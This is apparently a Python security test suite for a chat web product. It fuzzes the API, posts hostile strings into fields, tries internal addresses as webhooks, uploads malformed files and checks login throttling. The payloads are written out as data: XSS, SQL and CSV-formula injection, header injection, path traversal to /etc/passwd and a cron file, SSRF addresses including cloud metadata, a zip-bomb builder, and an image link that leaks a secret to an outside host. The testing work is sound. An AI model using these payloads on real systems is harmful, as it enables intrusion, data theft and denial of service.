"""The doors that face outwards: the API fuzzed, hostile words in every field, addresses of the inside, odd files,
passwords guessed (F25, F27, F28, F29, F30)."""

import io
import os
import subprocess
import sys
import threading
import time
import zipfile
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from uuid import uuid4

from faults import web
from faults.harness import Stage, settlers
from faults.load import answered
from faults.registry import fault

FUZZ_EXAMPLES = 20
FUZZ_SECONDS = 600
GUESSES = 25


@fault(
    "F25",
    "the API fuzzed",
    how=f"schemathesis from the API's own description over real HTTP, {FUZZ_EXAMPLES} calls of each operation, right "
    "and broken, with a token and without",
    promise="no 5xx, nobody in without a right",
    tier="nightly",
)
def fuzzed(stage: Stage) -> None:
    (caller,) = settlers(stage.house, 1)
    token = stage.house.clerk.ask("api_token", space_id=caller.person.space_id)
    for who, headers in (("token", [f"Authorization: Bearer {token}"]), ("nobody", [])):
        code, told = _schemathesis(stage, headers, who)
        stage.figure(f"calls, {who}", told)
        stage.injected(max(1, told))
        stage.expect(code == 0, f"schemathesis as {who} found failures; see {stage.house.state.name}-{who}.log")


def _schemathesis(stage: Stage, headers: list[str], who: str) -> tuple[int, int]:
    """Its exit code, and how many calls it made (counted in the product's own log)."""
    tool = Path(sys.executable).parent / "schemathesis"
    address = f"{stage.house.product.address}/api/v1/openapi.json"
    checks = "not_a_server_error" if headers else "not_a_server_error,ignored_auth"
    command = [str(tool), "run", address, "--checks", checks, "--max-examples", str(FUZZ_EXAMPLES), "--no-color"]
    command += ["--rate-limit", "200/m", "--phases", "fuzzing"]
    command += [part for header in headers for part in ("--header", header)]
    before = _requests(stage)
    log = stage.house.state.with_name(f"{stage.house.state.name}-{who}.log")
    with log.open("w") as out:
        done = subprocess.run(command, stdout=out, stderr=subprocess.STDOUT, timeout=FUZZ_SECONDS, env=_quiet())
    if not done.returncode:
        log.unlink()
    return done.returncode, _requests(stage) - before


def _quiet() -> dict[str, str]:
    return {name: value for name, value in os.environ.items() if not name.startswith("DJANGO_")}


def _requests(stage: Stage) -> int:
    path = stage.house.state / "logs" / "web.log"
    return path.read_text(errors="replace").count("/api/v1/") if path.exists() else 0


HOSTILE = (
    "<script>window.stolen=1</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "javascript:alert(1)",
    "[click](javascript:alert(1))",
    "![x](https://elsewhere.example/?q=secret)",
    "{{7*7}} {% debug %} ${7*7} #{7*7}",
    "'; DROP TABLE chat_message; --",
    '=HYPERLINK("http://elsewhere.example","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "a\r\nSet-Cookie: stolen=1",
    "../../../../etc/passwd",
    "\u202egnp.exe \u200b\ufeff\U000e0041 \ud7ff",
)
_LIVE = ("<script>window.stolen", "<img src=x onerror", "<svg/onload", 'href="javascript:', 'src="https://elsewhere')


@fault(
    "F27",
    "hostile words in every field",
    how=f"{len(HOSTILE)} texts of SQL, HTML, templates, CSV, headers, paths and Unicode said in the chat and put into "
    "capsule fields; then every page that shows them read",
    promise="shown as text: no tag, no handler, no foreign address stands in any page; nothing breaks",
    tier="nightly",
)
def hostile(stage: Stage) -> None:
    (speaker,) = settlers(stage.house, 1)
    talk = speaker.person.talk(speaker.person.new_conversation())
    pages = ["/capsule/", "/capsule/memories/", "/capsule/todos/", "/capsule/timeline/", f"/c/{talk.conversation_id}/"]
    for text in HOSTILE:
        answered(talk, text)
        answered(talk, f"My locker at the gym is called {text}")
        speaker.person.post("/capsule/roles/add/", name=text[:40])
        speaker.person.post("/capsule/add/", text=f"I like {text}")
        stage.injected(4)
    frames = "\n".join(frame.get("html", "") for frame in talk.frames)
    talk.close()
    bodies = {path: speaker.person.get(path) for path in pages}
    stage.figure("pages", {path: status for path, (status, _, _) in bodies.items()})
    for path, (status, body, _) in [*bodies.items(), ("the socket", (200, frames, ""))]:
        stage.expect(status < 500, f"{path} answered {status}")
        live = [one for one in _LIVE if one in body]
        stage.expect(not live, f"{path} holds {live}")


class _Listener:
    """Counts who comes by. `with _Listener() as listener`."""

    def __init__(self) -> None:
        self.hits = 0
        listener = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                listener.hits += 1
                self.send_response(204)
                self.end_headers()

            do_GET = do_POST

            def log_message(self, *_: object) -> None:
                """Quiet."""

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)

    @property
    def port(self) -> int:
        return self._server.server_port

    def __enter__(self) -> "_Listener":
        threading.Thread(target=self._server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
        return self

    def __exit__(self, *_: object) -> None:
        self._server.shutdown()
        self._server.server_close()


INSIDE = (
    "http://127.0.0.1:{port}/", "http://localhost:{port}/", "http://[::1]:{port}/", "http://2130706433:{port}/",
    "http://0x7f000001:{port}/", "http://0177.0.0.1:{port}/", "http://127.1:{port}/", "http://0.0.0.0:{port}/",
    "http://[::ffff:127.0.0.1]:{port}/", "http://[::ffff:7f00:1]:{port}/", "http://169.254.169.254/latest/meta-data/",
    "http://10.0.0.1:{port}/", "http://192.168.0.1:{port}/", "http://[fe80::1]:{port}/", "http://[fd00::1]:{port}/",
    "http://user@127.0.0.1:{port}/", "https://127.0.0.1:{port}/", "file:///etc/passwd", "gopher://127.0.0.1:{port}/",
    "http://127.0.0.1:{port}#@example.com/", "http://127。0。0。1:{port}/", "http://ⓛocalhost:{port}/",
)  # fmt: skip


@fault(
    "F28",
    "addresses of the inside as webhooks",
    how=f"{len(INSIDE)} spellings of loopback, private, link-local and mapped addresses, other schemes; a listener "
    "that counts; taken ones are pinged by the product's worker",
    promise="0 visits to the listener (a name that turns inside between check and use needs a DNS server: not played)",
    tier="nightly",
)
def inside(stage: Stage) -> None:
    people = settlers(stage.house, 6)
    with _Listener() as listener:
        for number, address in enumerate(INSIDE):
            space_id = people[number % len(people)].person.space_id
            answer = stage.house.clerk.ask("hook", space_id=space_id, url=address.format(port=listener.port))
            stage.injected()
            if answer == "taken":
                stage.figure(f"taken: {address}", "to be pinged")
        time.sleep(8.0)
        stage.figure("visits", listener.hits)
        stage.expect(not listener.hits, f"the listener was visited {listener.hits} times")


def _bomb() -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", b"0" * 50_000_000)
    return made.getvalue()


FILES = {
    "empty.png": b"",
    "page.png": b"<html><script>alert(1)</script></html>",
    "polyglot.gif": b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)//",
    "cut.png": b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\xff\xff\0\0\xff\xff\x08\2\0\0\0",
    "picture.svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "bomb.docx": _bomb(),
    "program.exe": b"MZ" + b"\0" * 200,
    "../../etc/cron.d/x": b"* * * * * root id",
    "nul\0.txt": b"text",
    "big.txt": b"x" * 30_000_000,
    "wide.txt": "\ufeff漢字\u202e".encode("utf-16"),
}


@fault(
    "F29",
    "odd files",
    how=f"{', '.join(name.replace(chr(0), '') for name in FILES)}, uploaded over HTTP into a chat",
    promise="refused in words, or kept sealed and served as nothing that a browser runs; no 5xx",
    tier="nightly",
)
def odd_files(stage: Stage) -> None:
    (giver,) = settlers(stage.house, 1)
    conversation = giver.person.new_conversation()
    with stage.talking():
        for name, content in FILES.items():
            status, body = web.upload(giver.person, f"/c/{conversation}/attachments/", name, content)
            stage.injected()
            stage.figure(name.replace("\0", "\\0"), status)
            stage.expect(status < 500, f"{name!r} answered {status}")
            stage.expect("alert(1)" not in body, f"{name!r} is shown as it is")


@fault(
    "F30",
    "passwords guessed, with Valkey and without",
    how=f"{GUESSES} wrong passwords for one account over the sign-in page, while Valkey runs, and while it is down",
    promise="after a few the right one is not let in either, for a while: both times",
    tier="nightly",
)
def guessed(stage: Stage) -> None:
    for name in ("with Valkey", "without Valkey"):
        (victim,) = settlers(stage.house, 1)
        password = stage.house.clerk.ask("with_password", email=victim.person.email)
        if name == "with Valkey":
            let_in = _guess(stage, victim.person, password)
        else:
            with stage.house.product.without("valkey"):
                let_in = _guess(stage, victim.person, password)
            stage.house.product.wait_until_ready(120)
        stage.figure(f"{name}: the right password after {GUESSES} wrong ones", "let in" if let_in else "refused")
        stage.expect(not let_in, f"{name}: nothing stops guessing")


def _guess(stage: Stage, person, password: str) -> bool:
    """Whether the right password is let in after so many wrong ones."""
    for _ in range(GUESSES):
        web.sign_in(person, uuid4().hex)
        stage.injected()
    return web.sign_in(person, password)
